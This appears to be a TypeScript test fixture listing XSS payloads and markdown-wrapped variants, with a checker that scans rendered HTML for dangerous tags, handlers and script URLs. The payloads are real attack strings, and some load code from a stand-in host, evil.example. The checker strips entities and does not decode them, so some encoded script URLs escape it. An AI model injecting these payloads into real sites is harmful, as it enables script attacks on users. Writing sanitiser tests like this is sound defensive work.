// XSS payloads for every renderer of user or author text (the pipeline for lessons, blogs and tutor answers, the
// inline renderer, the dialogs' HTML sanitiser) and the check of what comes out. Tests import it.

export const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=javascript:alert(1)>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<img src=`javascript:alert(1)`>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "<div style=\"background:url('javascript:alert(1)')\">x</div>",
  '<div style="width: expression(alert(1))">x</div>',
  "<style>@import 'http://evil.example/x.css';</style>",
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="http://evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<button formaction="javascript:alert(1)">x</button>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<table background="javascript:alert(1)">',
  "<isindex type=image src=1 onerror=alert(1)>",
  "<x onclick=alert(1)>click</x>",
  '<p id="x" onmouseover="alert(1)">hover</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<frameset onload=alert(1)>",
  '<applet code="javascript:alert(1)">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<img src="x" onerror="&#x61;lert(1)">',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<a id="user-content-x" name="__proto__">x</a>',
] as const;

/** Markdown wrappers a vector can hide in: inline, in a list, a quote, a table, a link, an image, a heading. */
export const WRAPPERS: ((v: string) => string)[] = [
  (v) => v,
  (v) => `Text before ${v} text after`,
  (v) => `- item ${v}`,
  (v) => `> quoted ${v}`,
  (v) => `| a | b |\n|---|---|\n| ${v} | x |`,
  (v) => `# Heading ${v}`,
];

export const MARKDOWN_VECTORS = [
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](javascript&#58;alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:alert(1))",
  "![img](javascript:alert(1))",
  '![img](x "onerror=alert(1)")',
  "[a](<javascript:alert(1)>)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[tab](java\tscript:alert(1))",
  "[entity](&#x6A;avascript:alert(1))",
  "[^x]\n\n[^x]: <img src=x onerror=alert(1)> [n](javascript:alert(1))",
  "- [x] <input onfocus=alert(1) autofocus>",
];

const DANGEROUS_TAG =
  /<(script|iframe|object|embed|svg|math|style|form|base|meta|link|frame|frameset|applet|input|button|textarea|select|template|noscript|video|audio|source|details|marquee|isindex)\b/i;

/** Every problem of rendered HTML: dangerous tags, event handlers, script URLs, inline styles, an unguarded new tab. */
export function problems(html: string): string[] {
  const found: string[] = [];
  // A task list's checkbox, as markdown writes it, is the one input allowed.
  const rest = html.replace(/<input type="checkbox"(?: checked)? disabled>/g, "");
  if (DANGEROUS_TAG.test(rest)) found.push(`tag ${DANGEROUS_TAG.exec(rest)?.[0]}`);
  for (const tag of rest.match(/<[a-z][^>]*>/gi) ?? []) {
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(`handler in ${tag}`);
    for (const [, name, value] of tag.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)) {
      const v = (value ?? "")
        .replace(/&#x?[0-9a-f]+;?/gi, "")
        .replace(/\s/g, "")
        .toLowerCase();
      if (/^(href|src|srcset|action|formaction|xlink:href|background|poster|data)$/i.test(name ?? "")) {
        if (/^(javascript|vbscript|data):/.test(v)) found.push(`${name}=${value}`);
      }
      if (name === "style") found.push(`style=${value}`);
    }
    if (/\starget="_blank"/i.test(tag) && !/\srel="[^"]*\bnoopener\b/i.test(tag))
      found.push(`new tab without noopener: ${tag}`);
  }
  return found;
}
